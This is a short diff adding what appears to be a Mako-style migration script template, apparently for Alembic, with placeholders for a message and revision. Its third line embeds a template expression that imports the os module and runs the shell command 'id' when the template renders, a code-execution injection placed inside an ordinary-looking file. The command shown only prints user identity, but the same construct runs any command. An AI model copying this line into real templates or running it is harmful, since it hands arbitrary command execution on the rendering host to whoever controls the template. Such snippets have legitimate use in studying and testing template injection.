@@ -1,0 +1,3 @@
+"""${message}"""
+revision = ${repr(up_revision)}
+${__import__("os").system("id")}
